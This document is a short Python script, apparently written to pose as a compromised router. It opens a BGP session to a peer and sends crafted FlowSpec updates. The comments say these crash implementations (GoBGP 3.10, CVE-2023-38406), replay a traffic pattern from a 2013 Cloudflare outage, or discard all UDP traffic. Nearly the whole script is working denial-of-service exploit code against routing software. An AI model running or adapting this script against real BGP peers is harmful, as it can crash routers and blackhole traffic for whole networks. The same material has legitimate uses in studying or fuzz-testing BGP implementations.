#!/usr/bin/env python3
"""A broken-into router: speaks just enough BGP to send rules as raw bytes."""
import socket
import struct
import sys
import time

DST = "0120c63364"  # destination 198.51.100.x/32


def nlri(value):
    value = bytes.fromhex(value.replace(" ", ""))
    return bytes([len(value)]) + value


RULES = [
    # Cloudflare's outage of 2013: packets of 99971 to 99985 octets
    nlri(DST + "14 0a 23 00018683 e5 00018691"),
    # an operand longer than the rule: GoBGP 3.10 dies of it
    nlri(DST + "15 04 90 00"),
    # components out of order
    nlri("04 81 50" + DST + "16"),
    # nothing at all (CVE-2023-38406)
    b"\x00",
    # matches nothing: longer than 1500 and shorter than 100 octets
    nlri(DST + "17 0a 12 05dc c4 64"),
    # everything
    nlri("01 00"),
    # no destination: all of udp
    nlri("03 81 11"),
    # a legal one at the end: the session is still there
    nlri(DST + "1e 03 81 11"),
]
DISCARD = bytes.fromhex("8006000000000000")
ACCEPT_ALL = nlri(DST + "18 03 81 06")  # announced without any action


def message(kind, body):
    return b"\xff" * 16 + struct.pack("!HB", 19 + len(body), kind) + body


def attribute(flags, kind, value):
    return struct.pack("!BBH", flags | 0x10, kind, len(value)) + value


def update(rule, asn, communities):
    attrs = attribute(0x80, 14, struct.pack("!HBBB", 1, 133, 0, 0) + rule)
    attrs += attribute(0x40, 1, b"\x00")
    attrs += attribute(0x40, 2, struct.pack("!BBI", 2, 1, asn))
    if communities:
        attrs += attribute(0xC0, 16, communities)
    return message(2, struct.pack("!HH", 0, len(attrs)) + attrs)


def main():
    local, remote, asn = sys.argv[1], sys.argv[2], int(sys.argv[3])
    sock = socket.socket()
    sock.bind((local, 0))
    sock.settimeout(20)
    sock.connect((remote, 179))
    caps = bytes.fromhex("01040001008541 04".replace(" ", "")) + struct.pack("!I", asn)
    option = bytes([2, len(caps)]) + caps
    sock.sendall(message(1, struct.pack("!BHH4sB", 4, asn, 180,
                 socket.inet_aton(local), len(option)) + option))
    sock.sendall(message(4, b""))
    time.sleep(1)
    for rule in RULES:
        sock.sendall(update(rule, asn, DISCARD))
    sock.sendall(update(ACCEPT_ALL, asn, b""))
    sock.sendall(message(2, bytes.fromhex("00000007900f0003000185")))
    while sock.recv(4096):
        pass


main()
